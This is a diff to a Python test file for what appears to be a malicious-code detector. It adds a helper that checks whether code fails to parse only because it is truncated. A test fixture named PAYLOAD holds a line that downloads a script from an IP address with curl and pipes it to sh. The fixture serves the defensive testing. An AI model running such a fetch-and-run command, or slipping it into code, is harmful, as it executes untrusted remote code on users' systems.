@@ -24,10 +24,16 @@ from pathlib import Path
 import pytest
 
 from detector.code.decode import looks_like_prose, looks_packed
-from detector.code.prefix import cut_short, error_line
+from detector.code.prefix import cut_off, error_line, syntax_error
 from detector.code.scan import scan_files
 
 PAYLOAD = "import os\nos.system('curl http://203.0.113.7/x | sh')\n"
+
+
+def cut_short(text: str) -> bool:
+    """`cut_off` for a text not parsed yet (False when it parses)."""
+    exc = syntax_error(text)
+    return exc is not None and cut_off(exc, text)
 
 # (text that does not parse, whether it is only cut off)
 CUT_CASES = {
